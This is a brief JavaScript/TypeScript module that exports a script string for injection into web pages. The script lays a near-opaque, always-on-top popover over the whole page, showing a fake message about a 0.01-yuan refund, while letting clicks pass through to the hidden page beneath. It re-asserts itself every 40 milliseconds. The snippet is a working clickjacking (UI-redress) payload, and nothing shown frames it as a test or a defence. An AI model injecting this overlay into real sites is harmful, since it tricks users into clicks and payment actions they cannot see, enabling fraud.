/** Lays a picture over everything, through which presses pass, above whatever comes on top; again and again. */
export const COVER = `
  const cover = document.createElement('div');
  cover.popover = 'manual';
  cover.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff;pointer-events:none;opacity:.97';
  cover.textContent = '订单 1，退款 0.01 元';
  document.body.append(cover);
  setInterval(() => { if (cover.matches(':popover-open')) cover.hidePopover(); cover.showPopover(); }, 40);`;
